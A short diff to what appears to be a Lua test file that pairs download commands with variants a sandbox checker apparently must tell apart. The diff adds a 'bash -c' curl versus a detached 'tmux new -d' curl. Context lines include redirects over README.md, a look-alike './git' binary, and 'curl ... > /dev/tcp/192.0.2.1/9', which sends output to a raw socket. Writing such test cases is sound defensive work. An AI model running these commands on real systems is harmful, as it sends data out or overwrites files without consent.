@@ -24,6 +24,7 @@ describe("a download", function()
     { "git clone URL",                     "git clone URL &> README.md" },
     { "wget -O f URL",                     "wget -O f URL > README.md" },
     { "sh -c 'curl -o SANDBOX/x URL'",     "sh -c 'curl -o SANDBOX/x URL > README.md'" },
+    { "bash -c 'curl -o SANDBOX/x URL'",   "tmux new -d 'curl -o SANDBOX/x URL'" },
     { "curl -o SANDBOX/x URL < a.txt",     "curl -o SANDBOX/x URL > /dev/tcp/192.0.2.1/9" },
     -- another program of that name
     { "/usr/bin/git clone URL",            "./git clone URL" },
